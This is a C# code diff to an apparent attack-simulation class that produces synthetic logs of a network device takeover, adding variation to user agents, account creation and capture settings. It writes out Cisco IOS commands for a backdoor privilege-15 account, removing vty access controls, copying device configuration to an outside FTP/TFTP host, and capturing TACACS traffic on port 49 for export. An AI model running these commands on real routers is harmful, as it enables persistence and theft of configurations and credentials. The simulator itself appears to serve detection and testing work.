@@ -39,7 +39,15 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
 
     private void Exploit(DateTime time)
     {
-        for (int i = 0; i < 2; i++)
+        string agent = Habit(
+            "agent",
+            "python-requests/2.31.0",
+            "Mozilla/5.0 (X11; Linux x86_64)",
+            "Go-http-client/1.1",
+            "curl/7.88.1"
+        );
+        int posts = Habit("posts", 2, 1, 3, 5);
+        for (int i = 0; i < posts; i++)
         {
             DateTime at = time.AddSeconds(i * 7);
             Wire.Request(
@@ -51,7 +59,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
                 Craft.ExploitPath,
                 200,
                 412 + i,
-                "python-requests/2.31.0",
+                agent,
                 Mark(StageIds.Entry, "T01")
             );
         }
@@ -156,7 +164,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         );
         string[] account = exploited ? ["T30", "S2"] : ["T30"];
         string[] access = exploited ? ["T38", "S2"] : ["T38"];
-        session.Configure(account, $"username {Craft.LocalAccount} privilege 15 secret 9 {Secret}");
+        session.Configure(account, Account());
         ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
         Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
         session.Begin().Statement("line vty 0 4", "~T38").Statement($"no access-class {Craft.AccessClass} in", access);
@@ -209,7 +217,15 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         string target = tftp
             ? $"tftp://{Craft.WebAddress}/{Craft.ConfigurationFile}"
             : $"ftp://{Craft.WebAddress}/{Craft.ConfigurationFile}";
-        reading.Command($"copy running-config {target}", "T23", "T74", "S1");
+        string copy = Habit(
+            "copy",
+            $"copy running-config {target}",
+            $"copy startup-config {target}",
+            $"copy nvram:startup-config {target}",
+            $"copy system:running-config {target}",
+            $"show running-config | redirect {target}"
+        );
+        reading.Command(copy, "T23", "T74", "S1");
         Wire.Connection(
             Scene,
             reading.Now.AddSeconds(2),
@@ -225,6 +241,26 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         reading.Close();
     }
 
+    private string Account() =>
+        Habit(
+            "account",
+            $"username {Craft.LocalAccount} privilege 15 secret 9 {Secret}",
+            $"username {Craft.LocalAccount} privilege 15 secret 0 *",
+            $"username {Craft.LocalAccount} privilege 15 algorithm-type scrypt secret *"
+        );
+
+    private string CaptureFilter()
+    {
+        string server = Carrier.Servers.Tacacs[0].Address;
+        return Habit(
+            "filter",
+            "match ipv4 protocol tcp any any eq 49",
+            "match ipv4 protocol tcp any any eq tacacs",
+            $"match ipv4 protocol tcp any host {server} eq 49",
+            "match ipv4 protocol tcp any eq 49 any"
+        );
+    }
+
     private void Capture()
     {
         Session session = new(
@@ -238,14 +274,15 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         string name = Craft.CaptureName;
         string[] proves = ["T60", "S3"];
         session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "~T60", "S3");
-        session.Command($"monitor capture {name} match ipv4 protocol tcp any any eq 49", proves);
+        session.Command($"monitor capture {name} {CaptureFilter()}", proves);
         session.Command($"monitor capture {name} start", "~T60", "S3");
         session.Log(IosShapes.Capture.With("ENABLE", name, "enabled"), "~T60", "S3");
         session.Wait(2400);
         session.Command($"monitor capture {name} stop", "~T60", "S3");
         session.Log(IosShapes.Capture.With("DISABLE", name, "disabled"), "~T60", "S3");
-        session.Command($"monitor capture {name} export bootflash:{Craft.CaptureFile}", "~T60", "S3");
-        session.Command($"copy bootflash:{Craft.CaptureFile} ftp://{Craft.WebAddress}/", "T74", "S3");
+        string file = Habit("store", "bootflash:", "flash:", "harddisk:", "bootflash:tracelogs/") + Craft.CaptureFile;
+        session.Command($"monitor capture {name} export {file}", "~T60", "S3");
+        session.Command($"copy {file} ftp://{Craft.WebAddress}/", "T74", "S3");
         Wire.Connection(
             Scene,
             session.Now.AddSeconds(3),
